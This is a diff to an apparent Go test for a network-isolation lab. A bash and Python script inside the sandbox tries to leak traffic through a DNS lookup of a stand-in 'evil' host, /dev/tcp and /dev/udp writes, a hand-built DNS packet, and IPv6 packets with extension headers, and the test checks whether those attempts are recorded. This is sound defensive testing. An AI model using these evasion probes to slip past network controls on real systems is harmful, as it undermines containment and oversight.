@@ -221,13 +221,20 @@ getent ahosts leak-1.evil.test
 for to in tcp/11.0.0.66/443 tcp/8.8.4.4/853 tcp/2600:11::66/22 tcp/2a00:1450::8/443 udp/11.0.0.66/443; do
 	timeout 0.3 bash -c "echo quic > /dev/$to"
 done
+python3 - <<'END'
+import socket
+for option in 54, 59: # IPV6_HOPOPTS, IPV6_DSTOPTS (ipv6(7)): a header before UDP's, with padding alone
+    s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
+    s.setsockopt(41, option, bytes([0, 0, 1, 4, 0, 0, 0, 0]))
+    s.sendto(b"hidden", ("2600:11::66", 4200 + option))
+END
 printf '\x00\x01\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x04leak\x04test\x00\x00\x10\x00\x01' > /dev/udp/8.8.8.8/53
 true`
 	output(t, lab.Command("bash", "-c", script))
 	want := map[string]bool{
 		"tcp 11.0.0.66:443": false, "tcp 8.8.4.4:853": false, "tcp [2600:11::66]:22": false,
 		"tcp [2a00:1450::8]:443": false, "udp 11.0.0.66:443": false, "udp 8.8.8.8:53": false,
-		"udp 11.0.0.53:53": false,
+		"udp 11.0.0.53:53": false, "udp [2600:11::66]:4254": false, "udp [2600:11::66]:4259": false,
 	}
 	for _, c := range lab.Connections() {
 		if _, ok := want[c.Proto+" "+c.To.String()]; ok {
